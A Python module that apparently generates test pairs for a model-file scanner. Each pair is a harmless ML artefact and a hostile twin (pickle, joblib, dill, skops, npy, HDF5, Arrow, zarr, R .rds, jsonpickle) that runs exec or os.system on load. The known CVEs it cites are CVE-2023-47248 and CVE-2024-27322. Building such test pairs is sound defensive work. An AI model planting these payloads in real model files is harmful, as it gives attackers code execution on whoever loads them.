"""Files that Python's machine-learning libraries load."""
import io
import json
import os
import struct
import types
import zlib

from assembly import Raw, build, call, glob, model, new, pickle, val
from pair import CODE, SHELL

from .shared import floats

F = "libraries"


def npy(descr: str, shape: str, data: bytes) -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    head += " " * (-(len(head) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head.encode() + data


def array_of(items) -> Raw:
    """An object array as numpy pickles it."""
    dtype = build(call(glob("numpy", "dtype"), "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
    made = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b")
    return build(made, (1, (len(items),), dtype, False, items))


def wrapped(items) -> bytes:
    """joblib's stream: a wrapper object, then the array's own pickle in the middle of the outer one."""
    dtype = build(call(glob("numpy", "dtype"), "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
    wrapper = build(new(glob("joblib.numpy_pickle", "NumpyArrayWrapper")), {
        "subclass": glob("numpy", "ndarray"), "shape": (len(items),), "order": "C", "dtype": dtype, "allow_mmap": False, "numpy_array_alignment_bytes": 16})
    return b"\x80\x04}(" + val("classes") + wrapper + pickle(array_of(items)) + val("alpha") + val(0.5) + b"u."


def rds_promise(hostile: bool) -> bytes:
    """R serialisation, XDR, version 2: a promise that is forced when the object is used, or a call kept as data."""
    n = lambda x: struct.pack(">i", x)  # noqa: E731
    char = lambda s: n(0x00040009) + n(len(s)) + s.encode()  # noqa: E731
    sym = lambda s: n(1) + char(s)  # noqa: E731
    string = lambda s: n(0x10) + n(1) + char(s)  # noqa: E731
    nil = n(0xFE)
    lang = n(6) + sym("system" if hostile else "lm") + n(2) + string(SHELL if hostile else "y ~ x") + nil
    if hostile:
        # PROMSXP, as CVE-2024-27322 describes.
        body = n(0x405) + n(0xFD) + n(0xFC) + lang  # global environment, R_UnboundValue, the expression
    else:
        body = n(0x13 | 0x200) + n(2) + n(0x0E) + n(2) + struct.pack(">dd", 1.5, 2.0) + lang + n(0x402) + sym("names") + n(0x10) + n(2) + char("coef") + char("call") + nil
    return b"X\n" + n(2) + n(0x00040301) + n(0x00020300) + body


def skops_use(function) -> bytes:
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer
    import skops.io

    return skops.io.dumps(Pipeline([("clean", FunctionTransformer(function))]))


def dilled(source: str, run: bool) -> bytes:
    import dill

    space = {"__name__": "__main__", "__builtins__": __builtins__}
    exec(source, space)
    fn = types.FunctionType(space["prepare"].__code__, {"__builtins__": __builtins__, "__name__": "__main__"}, "prepare")
    body = dill.dumps(fn, recurse=True, protocol=4)
    head, rest = body[:2], body[2:-1]
    frame = rest[9:] if rest[:1] == b"\x95" else rest
    return head + frame + (b")R." if run else b".")


def by_value(body: str) -> bytes:
    import cloudpickle

    space = {"__name__": "__main__"}
    exec(f"class Scaler:\n    def __init__(self):\n        self.mean = [0.5, 0.25]\n    def __setstate__(self, state):\n        self.__dict__.update(state)\n        {body}\n", space)
    space["Scaler"].__module__ = "__main__"
    return cloudpickle.dumps({"scaler": space["Scaler"](), "version": 2}, protocol=4)


def arrow(name: str, blob: bytes) -> bytes:
    import pyarrow as pa

    field = pa.field("embedding", pa.list_(pa.float32(), 4), metadata={"ARROW:extension:name": name, "ARROW:extension:metadata": blob})
    table = pa.Table.from_arrays([pa.FixedSizeListArray.from_arrays(pa.array([0.5] * 8, pa.float32()), 4)], schema=pa.schema([field]))
    sink = io.BytesIO()
    with pa.ipc.new_file(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue()


def zarr(codec: dict, chunk: bytes) -> dict:
    meta = {"zarr_format": 2, "shape": [3], "chunks": [3], "dtype": "|O", "fill_value": None, "order": "C", "compressor": None, "filters": [codec]}
    return {".zgroup": '{"zarr_format": 2}', "labels/.zarray": json.dumps(meta, indent=1), "labels/0": chunk, "labels/.zattrs": '{"split": "train"}'}


def hdf(value: bytes) -> bytes:
    """A PyTables file: a text attribute that holds a pickle is unpickled when it is read."""
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for k, v in (("TITLE", b"features"), ("CLASS", b"GROUP"), ("VERSION", b"1.0"), ("PYTABLES_FORMAT_VERSION", b"2.1")):
            f.attrs[k] = np.bytes_(v)
        d = f.create_dataset("scores", data=np.arange(6, dtype="f4"))
        for k, v in (("CLASS", b"ARRAY"), ("VERSION", b"2.4"), ("TITLE", b""), ("FLAVOR", b"numpy"), ("scaling", value)):
            d.attrs[k] = np.bytes_(v)
    return buf.getvalue()


def add(out):
    def pair(name, hostile, twin, why, prove=None, file="model.pkl"):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    run = call(glob("builtins", "exec"), CODE)
    pair("joblib-object-array-inside", zlib.compress(wrapped(["cat", run, "dog"])), zlib.compress(wrapped(["cat", "cow", "dog"])),
         "A compressed joblib dump whose object array is a pickle inside the pickle.", "joblib", "clf.joblib.z")
    vectorizer = lambda f: pickle(model(build(new(glob("sklearn.feature_extraction.text", "CountVectorizer")), {  # noqa: E731
        "input": "content", "encoding": "utf-8", "decode_error": "strict", "strip_accents": None, "preprocessor": f, "tokenizer": None, "analyzer": "word",
        "lowercase": True, "token_pattern": "(?u)\\b\\w\\w+\\b", "stop_words": None, "max_df": 1.0, "min_df": 1, "max_features": None, "ngram_range": (1, 1),
        "vocabulary": {"touch": 0, "marker": 1}, "binary": False, "dtype": glob("numpy", "int64"), "_sklearn_version": "1.9.1"})))
    pair("vectorizer-runs-documents", vectorizer(glob("subprocess", "getoutput")), vectorizer(None),
         "Each document given to the vectoriser is run as a shell command.", "call", "vectorizer.pkl")
    pair("dill-called-code", dilled(f"def prepare():\n    {CODE}\n", True), dilled("def prepare():\n    return [0.5, 0.25]\n", False),
         "A function rebuilt from code bytes and called by the same stream.", "dill", "pipeline.dill")
    pair("cloudpickle-setstate-by-value", by_value(CODE), by_value("self.fitted = True"),
         "A class sent by value whose __setstate__ runs a payload while loading.", "pickle", "python_model.pkl")
    pair("skops-transform-shell", skops_use(os.system), skops_use(__import__("numpy").log1p),
         "A pipeline that hands its input to os.system; loaded with the types the file asks for, as the docs show, then used.", "ninth-skops-use", "pipeline.skops")
    pair("structured-dtype-object-field", npy("[('score', '<f4'), ('meta', [('tag', '|O')])]", "(2,)", pickle(build(call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b"), (1, (0,), call(glob("numpy", "dtype"), "f4"), False, run)))),
         npy("[('score', '<f4'), ('meta', [('tag', '<i4')])]", "(2,)", floats(4)),
         "A nested field of type object turns the array's data into a pickle.", "numpy", "scores.npy")
    pair("pytables-attribute", hdf(pickle(call(glob("builtins", "exec"), CODE), 0)), hdf(b"{'mean': 0.5, 'std': 0.25}"),
         "PyTables unpickles an attribute's text.", "ninth-tables", "features.h5")
    pair("arrow-extension-pickle", arrow("arrow.py_extension_type", pickle(call(glob("posix", "system"), SHELL))), arrow("arrow.fixed_shape_tensor", b'{"shape": [2, 2], "dim_names": ["h", "w"]}'),
         "CVE-2023-47248: an extension type's metadata is a pickle that pyarrow before 14.0.1 loads on reading. Not run: newer pyarrow refuses.", None, "embeddings.arrow")
    pair("zarr-pickle-filter", zarr({"id": "pickle", "protocol": 5}, pickle(array_of(["cat", run, "dog"]))), zarr({"id": "json2", "encoding": "utf-8", "strict": True, "skipkeys": False}, b'["cat","cow","dog","|O",[3]]'),
         "A zarr array whose filter is the pickle codec: reading the chunk runs it (numcodecs 0.16.6 asks for a switch first, earlier ones do not).", "ninth-zarr", None)
    pair("statsmodels-formula", pickle(model(build(new(glob("statsmodels.base.data", "ModelData")), {"restore_model_spec": True, "formula": f"y ~ x + I({CODE} or x)", "frame": frame()}))),
         pickle(model(build(new(glob("statsmodels.base.data", "ModelData")), {"restore_model_spec": True, "formula": "y ~ x + I(x ** 2)", "frame": frame()}))),
         "statsmodels re-evaluates the formula of a pickled model; the formula is Python.", "pickle", "ols.pickle")
    pair("rds-promise", rds_promise(True), rds_promise(False),
         "CVE-2024-27322: a promise in an .rds runs its expression when the value is touched. Built from R's serialisation format, not run: R is not installed.", None, "model.rds")
    jsonp = lambda f, arg: json.dumps({"py/object": "collections.OrderedDict", "weights": [0.1, 0.2], "hook": {"py/reduce": [{"py/function": f}, {"py/tuple": [arg]}]}})  # noqa: E731
    pair("jsonpickle-reduce", jsonp("posix.system", SHELL), jsonp("pathlib.PurePosixPath", "weights.bin"),
         "A JSON file whose py/reduce names os.system.", "ninth-jsonpickle", "model.json")


def frame() -> Raw:
    """A small pandas DataFrame, as opcodes."""
    import pickle as std

    import pandas as pd

    body = std.dumps(pd.DataFrame({"x": [1.0, 2.0, 3.0], "y": [0.5, 1.5, 1.0]}), 3)
    return Raw(body[2:-1])
